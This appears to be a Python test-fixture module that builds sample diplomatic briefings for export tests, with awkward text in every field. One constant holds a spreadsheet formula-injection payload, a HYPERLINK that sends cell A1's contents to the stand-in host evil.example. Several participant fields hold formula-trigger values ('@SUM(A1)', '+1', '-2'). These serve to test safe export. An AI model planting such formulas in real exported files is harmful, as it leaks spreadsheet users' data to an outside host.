"""Briefings built in code for the export tests: awkward text in every field that can hold it."""

from __future__ import annotations

import glob

from briefing.archive.parse import load_file
from briefing.format.dates import parse_date
from briefing.format.model import Briefing, Meeting, Outcome, Participant, Source, Topic

Group = tuple[Briefing, list[Meeting]]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
QUOTED = 'He said "yes, at once",\nthen; left \\ early'


def sample() -> Briefing:
    """A dated briefing: a day, a month, a year, an interval, two undated meetings, formulas and line breaks."""
    rubio = Meeting(
        id="jaishankar-rubio",
        title=HYPERLINK,
        participants=(
            Participant("S. Jaishankar", "External Affairs Minister", "India", refs=(2,)),
            Participant("+1", "Secretary of State", "United States", refs=(2, 5)),
            Participant("", "@SUM(A1)", "Japan", "-2"),
            Participant("", "\tTabbed", "", "Quad"),
        ),
        date=parse_date("2025-07-01"),
        location="Washington, DC",
        venue="State Department",
        context="alongside the QFMM",
        summary="Line one.\nLine two.",
        kind="bilateral",
        topics=(Topic("Trade", refs=(2,)), Topic("Indo-Pacific; maritime", "Supply chains,\nresilient", (4,))),
        outcomes=(Outcome(QUOTED, "commitment", (4,)), Outcome("-2 tariffs", "plan")),
        refs=(2, 5),
    )
    return Briefing(
        id="washington-2025",
        title="Jaishankar's Washington round",
        date=parse_date("2025-07-02"),
        meetings=(
            rubio,
            Meeting("quad", "Quad Foreign Ministers' Meeting", (), parse_date("2025-07~"), kind="multilateral"),
            Meeting("year", "Year-long dialogue", (), parse_date("2024?")),
            Meeting("summit", "Three-day summit", (), parse_date("2025-06-30/2025-07-02")),
            Meeting("undated", "Talks on a day not stated", (Participant("A. Person"),)),
            Meeting("leap", "February talks", (), parse_date("2024-02")),
        ),
        path="data/washington.yaml",
        source=Source("ANI", "news report", "https://example.org/a?b=1,c", parse_date("2025-07-02"), "ani.txt"),
    )


def undated_briefing() -> Briefing:
    """A briefing whose date could not be read, with one undated and one dated meeting."""
    return Briefing(
        id="odd id/é#2",
        title="Odd",
        date=None,
        meetings=(
            Meeting("no date", "Undated talks", ()),
            Meeting("dated", "Dated talks", (), parse_date("2023-03-05")),
        ),
        path="data/odd.yaml",
    )


def groups() -> list[Group]:
    """Every meeting of both briefings, as a command passes them."""
    return [(b, list(b.meetings)) for b in (sample(), undated_briefing())]


def project_groups() -> list[Group]:
    """The briefings of the project's own data files."""
    out: list[Group] = []
    for path in sorted(glob.glob("/work/main/data/*.yaml")):
        result = load_file(path)
        assert not [p for p in result.problems if p.is_error], result.problems
        out += [(b, list(b.meetings)) for b in result.briefings]
    assert out
    return out
